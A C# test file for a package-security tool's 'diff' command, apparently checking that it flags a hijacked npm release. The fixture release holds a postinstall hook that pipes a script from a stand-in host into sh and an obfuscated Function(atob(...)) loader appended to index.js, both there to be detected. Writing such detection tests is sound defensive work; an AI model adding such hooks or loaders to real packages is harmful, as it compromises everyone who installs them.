using System.Text.Json.Nodes;
using PackGuard.Cli.Tests.Support;
using PackGuard.Tests.Support;

namespace PackGuard.Cli.Tests.Commands;

/// <summary>
/// <c>packguard diff</c> in-process over the fixture pair of the "Release gate" acceptance: v1 is
/// clean; v2 adds a first-ever postinstall that fetches and runs a script, appends an obfuscated
/// blob to its entry file and declares a new dependency.
/// </summary>
public sealed class DiffCommandTests : IDisposable
{
    private static readonly Lazy<JsonSchemaValidator> Sarif = new(() => JsonSchemaValidator.FromFile(
        Path.Combine(AppContext.BaseDirectory, "Reports", "Schemas", "sarif-schema-2.1.0.json")));

    private static readonly string Entry = string.Concat(Enumerable.Range(0, 60).Select(i =>
        $"function handler{i}(request, response) {{\n  return response.send(request.body + {i});\n}}\n")) + "module.exports = { handler0 };\n";

    private static readonly string Blob = Convert.ToBase64String([.. Enumerable.Range(0, 8000).Select(i => (byte)(i * 7919 % 251))]);

    private static readonly byte[] V1 = TestArchive.ReproducibleNpmTarball(
        TestFile.Text("package.json", """{"name":"acme-http","version":"1.4.0","license":"MIT","main":"index.js","dependencies":{"ms":"^2.1.3"}}"""),
        TestFile.Text("index.js", Entry),
        TestFile.Text("README.md", "# acme-http\n"));

    private static readonly byte[] V2 = TestArchive.ReproducibleNpmTarball(
        TestFile.Text("package.json", """{"name":"acme-http","version":"1.4.1","license":"MIT","main":"index.js","dependencies":{"ms":"^2.1.3","plain-crypto-js":"^4.2.1"},"scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}}"""),
        TestFile.Text("index.js", Entry + ";(function(){var _0x=\"" + Blob + "\";Function(atob(_0x))()})();\n"),
        TestFile.Text("README.md", "# acme-http\n"));

    private readonly CliSandbox _cli = new();

    public DiffCommandTests()
    {
        _cli.WriteFile("acme-http-1.4.0.tgz", V1);
        _cli.WriteFile("acme-http-1.4.1.tgz", V2);
    }

    public void Dispose() => _cli.Dispose();

    [Fact]
    public async Task The_hijacked_release_fails_and_each_change_is_named()
    {
        var result = await _cli.RunAsync("diff", "acme-http-1.4.0.tgz", "acme-http-1.4.1.tgz");

        result.ExitCode.ShouldBe(ExitCodes.Fail, result.ToString());
        result.Error.ShouldBeEmpty();
        var text = result.Output;
        var flat = string.Join(' ', text.Split('\n').Select(l => l.Trim())); // messages wrap at 100 columns
        text.ShouldStartWith("acme-http-1.4.0.tgz → acme-http-1.4.1.tgz\nacme-http 1.4.0 → 1.4.1 (npm) · licence: MIT\n");
        text.ShouldContain(" FAIL ");
        text.ShouldContain("install script added: postinstall: curl -s https://x.example/i.sh | sh");
        text.ShouldContain("HIGH Install script added or changed · diff/new-install-script");
        flat.ShouldContain("adds a postinstall script that downloads or pipes code into an interpreter: `curl -s https://x.example/i.sh | sh`");
        text.ShouldContain("HIGH Script turned opaque · diff/obfuscation-jump");
        flat.ShouldContain("index.js (an entry point) turned opaque");
        text.ShouldContain("HIGH New use of a dangerous API · diff/new-dangerous-api");
        text.ShouldContain("MEDIUM New dependency · diff/new-dependency");
        flat.ShouldContain("adds the dependency plain-crypto-js ^4.2.1, and its only script does not require or import it");
    }

    [Fact]
    public async Task The_same_release_twice_passes_with_no_change()
    {
        var result = await _cli.RunAsync("diff", "acme-http-1.4.0.tgz", "acme-http-1.4.0.tgz");

        result.ExitCode.ShouldBe(ExitCodes.Pass, result.ToString());
        result.Output.ShouldContain("files: 0 added, 0 removed, 0 changed, 3 unchanged");
        result.Output.ShouldContain("No unusual change");
    }

    [Fact]
    public async Task Json_is_the_new_targets_report_with_against_and_changes()
    {
        var result = await _cli.RunAsync("diff", "acme-http-1.4.0.tgz", "acme-http-1.4.1.tgz", "--format", "json");

        result.ExitCode.ShouldBe(ExitCodes.Fail);
        var report = JsonNode.Parse(result.Output)!;
        report.AsObject().Select(p => p.Key).ShouldBe(
            ["schemaVersion", "tool", "target", "against", "verdict", "failOn", "incomplete", "summary", "findings", "policy", "suppressed", "expiredSuppressions", "changes"]);
        report["target"]!["version"]!.GetValue<string>().ShouldBe("1.4.1");
        report["against"]!["version"]!.GetValue<string>().ShouldBe("1.4.0");
        var changes = report["changes"]!;
        changes.AsObject().Select(p => p.Key).ShouldBe(
            ["size", "entries", "newFileKinds", "installScripts", "dependencies", "endpoints", "dangerousApis", "obfuscation"]);
        changes["installScripts"]![0]!.ToJsonString().ShouldBe("""{"name":"postinstall","change":"added","old":null,"new":"curl -s https://x.example/i.sh | sh","kind":"npm-script","path":null,"fetches":true}""");
        changes["dependencies"]![0]!.ToJsonString().ShouldBe("""{"name":"plain-crypto-js","change":"added","old":null,"new":"^4.2.1"}""");
        changes["entries"]!["changed"]!.AsArray().Select(e => e!["path"]!.GetValue<string>()).ShouldBe(["index.js", "package.json"]);
        changes["dangerousApis"]![0]!["tokens"]!.AsArray().Select(t => t!.GetValue<string>()).ShouldBe(["Function("]);
        var jump = changes["obfuscation"]![0]!;
        jump["newMinifiedShare"]!.GetValue<double>().ShouldBeGreaterThan(0.5);
        report["findings"]!.AsArray().Select(f => f!["ruleId"]!.GetValue<string>()).ShouldBe(
            ["diff/new-dangerous-api", "diff/new-install-script", "diff/obfuscation-jump", "diff/new-dependency", "diff/new-finding"], ignoreOrder: true);
        var behaviour = report["findings"]!.AsArray().Single(f => f!["ruleId"]!.GetValue<string>() == "diff/new-finding")!;
        behaviour["properties"]!["ruleId"]!.GetValue<string>().ShouldBe("install/downloads-and-runs");
        behaviour["properties"]!["excerpt"]!.GetValue<string>().ShouldBe("curl -s https://x.example/i.sh | sh");
    }

    [Fact]
    public async Task Sarif_carries_the_diff_findings_and_validates()
    {
        var result = await _cli.RunAsync("diff", "acme-http-1.4.0.tgz", "acme-http-1.4.1.tgz", "--format", "sarif");

        result.ExitCode.ShouldBe(ExitCodes.Fail);
        var errors = Sarif.Value.Validate(result.Output);
        errors.ShouldBeEmpty(string.Join("\n", errors));
        var run = JsonNode.Parse(result.Output)!["runs"]![0]!;
        run["results"]!.AsArray().Count.ShouldBe(5);
        run["tool"]!["driver"]!["rules"]!.AsArray().Select(r => r!["id"]!.GetValue<string>()).ShouldContain("diff/new-install-script");
        run["properties"]!["against"]!["version"]!.GetValue<string>().ShouldBe("1.4.0");
    }

    [Fact]
    public async Task Fail_on_none_passes_the_same_pair()
    {
        var result = await _cli.RunAsync("diff", "acme-http-1.4.0.tgz", "acme-http-1.4.1.tgz", "--fail-on", "none");

        result.ExitCode.ShouldBe(ExitCodes.Pass);
    }

    [Fact]
    public async Task A_target_that_cannot_be_read_exits_3_and_says_which()
    {
        var result = await _cli.RunAsync("diff", "acme-http-1.4.0.tgz", "missing-1.4.1.tgz");

        result.ExitCode.ShouldBe(ExitCodes.Unreadable);
        result.Error.ShouldStartWith("packguard: missing-1.4.1.tgz: ");
        result.Output.ShouldBeEmpty();
    }

    [Fact]
    public async Task One_target_is_a_usage_error()
    {
        var result = await _cli.RunAsync("diff", "acme-http-1.4.0.tgz");

        result.ExitCode.ShouldBe(ExitCodes.Usage);
    }
}
